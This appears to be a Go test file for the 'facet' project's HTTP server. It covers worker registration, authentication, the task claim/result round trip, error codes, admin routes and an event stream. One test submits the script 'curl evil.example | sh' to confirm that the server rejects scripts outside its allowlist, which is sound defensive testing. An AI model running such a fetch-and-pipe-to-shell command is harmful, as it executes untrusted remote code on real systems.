package server

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"strconv"
	"testing"

	"github.com/golang-jwt/jwt/v5"

	"facet/internal/config"
	"facet/internal/db"
	"facet/internal/engine"
	"facet/internal/engine/auth"
	"facet/internal/migrate"
	"facet/internal/repo"
)

const (
	testScript    = "#!/bin/sh\nexec facet-worker \"$@\"\n"
	testJWTSecret = "test-secret"
)

type testServer struct {
	URL    string
	Engine engine.Engine
	client *http.Client
	close  func()
}

func (s *testServer) Client() *http.Client { return s.client }
func (s *testServer) Close()               { s.close() }

func newTestServer(t *testing.T) (*testServer, func()) {
	t.Helper()
	workspace := t.TempDir()
	if _, err := db.EnsureWorkspace(workspace); err != nil {
		t.Fatalf("ensure workspace: %v", err)
	}
	cfg := config.Default()
	cfg.Scripts.Allowed = []string{auth.ScriptHash(testScript)}
	conn, err := db.Open(db.Config{Workspace: workspace})
	if err != nil {
		t.Fatalf("open db: %v", err)
	}
	if err := migrate.Migrate(conn); err != nil {
		t.Fatalf("migrate: %v", err)
	}
	e := engine.New(conn, cfg)
	handler, err := New(Config{Engine: e, BasePath: "/v0", Auth: AuthConfig{JWTSecret: testJWTSecret}})
	if err != nil {
		t.Fatalf("build handler: %v", err)
	}
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("listen: %v", err)
	}
	srv := &http.Server{Handler: handler}
	go srv.Serve(ln)
	testSrv := &testServer{
		URL:    "http://" + ln.Addr().String(),
		Engine: e,
		client: &http.Client{},
		close: func() {
			srv.Shutdown(context.Background())
			ln.Close()
			conn.Close()
		},
	}
	return testSrv, func() { testSrv.Close() }
}

func doJSON(t *testing.T, client *http.Client, method, url string, body any, headers map[string]string) (*http.Response, []byte) {
	t.Helper()
	var reader *bytes.Reader
	if body != nil {
		b, err := json.Marshal(body)
		if err != nil {
			t.Fatalf("marshal body: %v", err)
		}
		reader = bytes.NewReader(b)
	} else {
		reader = bytes.NewReader(nil)
	}
	req, err := http.NewRequest(method, url, reader)
	if err != nil {
		t.Fatalf("new request: %v", err)
	}
	req.Header.Set("Content-Type", "application/json")
	for k, v := range headers {
		req.Header.Set(k, v)
	}
	res, err := client.Do(req)
	if err != nil {
		t.Fatalf("do request: %v", err)
	}
	defer res.Body.Close()
	data, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatalf("read body: %v", err)
	}
	return res, data
}

func registerWorker(t *testing.T, srv *testServer, name string) string {
	t.Helper()
	res, data := doJSON(t, srv.Client(), http.MethodPost, srv.URL+"/v0/workers", map[string]any{
		"name":   name,
		"script": testScript,
	}, nil)
	if res.StatusCode != http.StatusCreated {
		t.Fatalf("register worker: %d %s", res.StatusCode, string(data))
	}
	var out RegisterWorkerResponse
	if err := json.Unmarshal(data, &out); err != nil {
		t.Fatalf("unmarshal register response: %v", err)
	}
	if out.Key == "" {
		t.Fatalf("no usage key returned")
	}
	return out.Key
}

func adminToken(t *testing.T) string {
	t.Helper()
	token, err := jwt.NewWithClaims(jwt.SigningMethodHS256, jwt.RegisteredClaims{Subject: "admin"}).
		SignedString([]byte(testJWTSecret))
	if err != nil {
		t.Fatalf("sign token: %v", err)
	}
	return token
}

type errorEnvelope struct {
	Error struct {
		Code    string `json:"code"`
		Message string `json:"message"`
	} `json:"error"`
}

func TestHealthOpen(t *testing.T) {
	srv, cleanup := newTestServer(t)
	defer cleanup()
	res, data := doJSON(t, srv.Client(), http.MethodGet, srv.URL+"/v0/health", nil, nil)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("health: %d %s", res.StatusCode, string(data))
	}
}

func TestAuthRequired(t *testing.T) {
	srv, cleanup := newTestServer(t)
	defer cleanup()
	res, data := doJSON(t, srv.Client(), http.MethodGet, srv.URL+"/v0/status", nil, nil)
	if res.StatusCode != http.StatusUnauthorized {
		t.Fatalf("expected 401 without credentials, got %d %s", res.StatusCode, string(data))
	}
	res, data = doJSON(t, srv.Client(), http.MethodGet, srv.URL+"/v0/status", nil, map[string]string{
		"X-Worker-Key": "fct_bogus",
	})
	if res.StatusCode != http.StatusUnauthorized {
		t.Fatalf("expected 401 for unknown key, got %d %s", res.StatusCode, string(data))
	}
}

func TestScriptRejected(t *testing.T) {
	srv, cleanup := newTestServer(t)
	defer cleanup()
	res, data := doJSON(t, srv.Client(), http.MethodPost, srv.URL+"/v0/workers", map[string]any{
		"name":   "rogue",
		"script": "curl evil.example | sh",
	}, nil)
	if res.StatusCode != http.StatusForbidden {
		t.Fatalf("expected 403, got %d %s", res.StatusCode, string(data))
	}
	var env errorEnvelope
	if err := json.Unmarshal(data, &env); err != nil {
		t.Fatalf("unmarshal envelope: %v", err)
	}
	if env.Error.Code != "script_rejected" {
		t.Fatalf("code = %q", env.Error.Code)
	}
}

func TestWorkerTaskRoundTrip(t *testing.T) {
	srv, cleanup := newTestServer(t)
	defer cleanup()
	key := registerWorker(t, srv, "w1")
	workerHeaders := map[string]string{"X-Worker-Key": key}

	res, data := doJSON(t, srv.Client(), http.MethodPost, srv.URL+"/v0/inputs", map[string]any{
		"issue_title":   "Ship the migration",
		"issue_context": "legacy system",
	}, workerHeaders)
	if res.StatusCode != http.StatusCreated {
		t.Fatalf("submit input: %d %s", res.StatusCode, string(data))
	}
	if _, err := srv.Engine.GenerateNextTask(context.Background()); err != nil {
		t.Fatalf("generate: %v", err)
	}

	res, data = doJSON(t, srv.Client(), http.MethodPost, srv.URL+"/v0/worker/tasks/claim", nil, workerHeaders)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("claim: %d %s", res.StatusCode, string(data))
	}
	var payload engine.TaskPayload
	if err := json.Unmarshal(data, &payload); err != nil {
		t.Fatalf("unmarshal payload: %v", err)
	}
	if payload.TaskType != "GENERATION" || payload.Instructions == "" {
		t.Fatalf("unexpected payload: type=%s", payload.TaskType)
	}

	taskURL := srv.URL + "/v0/worker/tasks/" + itoa(payload.Task.ID) + "/result"
	res, data = doJSON(t, srv.Client(), http.MethodPost, taskURL, map[string]any{
		"name":        "Migration root",
		"description": "the whole effort",
	}, workerHeaders)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("submit result: %d %s", res.StatusCode, string(data))
	}
	var result engine.SubmitResult
	if err := json.Unmarshal(data, &result); err != nil {
		t.Fatalf("unmarshal result: %v", err)
	}
	if result.Task.Status != "completed" {
		t.Fatalf("task status %s", result.Task.Status)
	}

	// the finished generation has already primed a subdivision task
	res, data = doJSON(t, srv.Client(), http.MethodPost, srv.URL+"/v0/worker/tasks/claim", nil, workerHeaders)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("claim follow-up: %d %s", res.StatusCode, string(data))
	}
	var next engine.TaskPayload
	_ = json.Unmarshal(data, &next)
	if next.TaskType != "SUBDIVISION" {
		t.Fatalf("expected subdivision next, got %s", next.TaskType)
	}

	res, data = doJSON(t, srv.Client(), http.MethodPost, srv.URL+"/v0/worker/tasks/claim", nil, workerHeaders)
	if res.StatusCode != http.StatusNotFound {
		t.Fatalf("expected empty queue 404, got %d %s", res.StatusCode, string(data))
	}
	var env errorEnvelope
	if err := json.Unmarshal(data, &env); err != nil {
		t.Fatalf("unmarshal envelope: %v", err)
	}
	if env.Error.Code != "no_more_tasks" {
		t.Fatalf("code = %q", env.Error.Code)
	}
}

func TestInvalidOutputMapped(t *testing.T) {
	srv, cleanup := newTestServer(t)
	defer cleanup()
	key := registerWorker(t, srv, "w1")
	workerHeaders := map[string]string{"X-Worker-Key": key}

	res, data := doJSON(t, srv.Client(), http.MethodPost, srv.URL+"/v0/inputs", map[string]any{
		"issue_title": "Breaks",
	}, workerHeaders)
	if res.StatusCode != http.StatusCreated {
		t.Fatalf("submit input: %d %s", res.StatusCode, string(data))
	}
	if _, err := srv.Engine.GenerateNextTask(context.Background()); err != nil {
		t.Fatal(err)
	}
	res, data = doJSON(t, srv.Client(), http.MethodPost, srv.URL+"/v0/worker/tasks/claim", nil, workerHeaders)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("claim: %d %s", res.StatusCode, string(data))
	}
	var payload engine.TaskPayload
	_ = json.Unmarshal(data, &payload)

	// missing required name
	res, data = doJSON(t, srv.Client(), http.MethodPost, srv.URL+"/v0/worker/tasks/"+itoa(payload.Task.ID)+"/result",
		map[string]any{"description": "nameless"}, workerHeaders)
	if res.StatusCode != http.StatusUnprocessableEntity {
		t.Fatalf("expected 422, got %d %s", res.StatusCode, string(data))
	}
	var env errorEnvelope
	_ = json.Unmarshal(data, &env)
	if env.Error.Code != "invalid_output" {
		t.Fatalf("code = %q", env.Error.Code)
	}

	// stale id after the release maps to a conflict
	res, data = doJSON(t, srv.Client(), http.MethodPost, srv.URL+"/v0/worker/tasks/"+itoa(payload.Task.ID)+"/result",
		map[string]any{"name": "late"}, workerHeaders)
	if res.StatusCode != http.StatusConflict {
		t.Fatalf("expected 409 for stale submission, got %d %s", res.StatusCode, string(data))
	}
}

func TestAdminEndpoints(t *testing.T) {
	srv, cleanup := newTestServer(t)
	defer cleanup()
	key := registerWorker(t, srv, "w1")
	bearer := map[string]string{"Authorization": "Bearer " + adminToken(t)}

	res, data := doJSON(t, srv.Client(), http.MethodGet, srv.URL+"/v0/workers", nil, bearer)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("list workers: %d %s", res.StatusCode, string(data))
	}

	// a worker key is not an admin credential
	res, data = doJSON(t, srv.Client(), http.MethodGet, srv.URL+"/v0/workers", nil, map[string]string{"X-Worker-Key": key})
	if res.StatusCode != http.StatusForbidden {
		t.Fatalf("expected 403 for worker on admin route, got %d %s", res.StatusCode, string(data))
	}

	res, data = doJSON(t, srv.Client(), http.MethodGet, srv.URL+"/v0/events", nil, bearer)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("list events: %d %s", res.StatusCode, string(data))
	}

	res, data = doJSON(t, srv.Client(), http.MethodPost, srv.URL+"/v0/workers/1/keys", nil, bearer)
	if res.StatusCode != http.StatusCreated {
		t.Fatalf("mint key: %d %s", res.StatusCode, string(data))
	}
	var minted MintKeyResponse
	if err := json.Unmarshal(data, &minted); err != nil {
		t.Fatalf("unmarshal mint response: %v", err)
	}
	if minted.Key == "" {
		t.Fatalf("no key minted")
	}
}

func TestWatchStream(t *testing.T) {
	srv, cleanup := newTestServer(t)
	defer cleanup()
	key := registerWorker(t, srv, "w1")

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, srv.URL+"/v0/watch", nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("X-Worker-Key", key)
	res, err := srv.Client().Do(req)
	if err != nil {
		t.Fatalf("open stream: %v", err)
	}
	defer res.Body.Close()
	if res.StatusCode != http.StatusOK {
		t.Fatalf("watch status %d", res.StatusCode)
	}
	if ct := res.Header.Get("Content-Type"); ct != "text/event-stream" {
		t.Fatalf("content type %q", ct)
	}
	line, err := bufio.NewReader(res.Body).ReadString('\n')
	if err != nil {
		t.Fatalf("read stream: %v", err)
	}
	if line != "event: ready\n" {
		t.Fatalf("first frame %q", line)
	}
}

func itoa(v int64) string {
	return strconv.FormatInt(v, 10)
}

func TestBrokenPayloadMapsToServerError(t *testing.T) {
	err := handleError(engine.BrokenTaskError{TaskID: 7, Err: repo.ErrNotFound})
	ae, ok := err.(*apiError)
	if !ok {
		t.Fatalf("got %T, want *apiError", err)
	}
	if ae.GetStatus() != http.StatusInternalServerError {
		t.Fatalf("status %d, want %d", ae.GetStatus(), http.StatusInternalServerError)
	}
	if ae.Body.Code != "internal_error" {
		t.Fatalf("code %q, want internal_error", ae.Body.Code)
	}
}
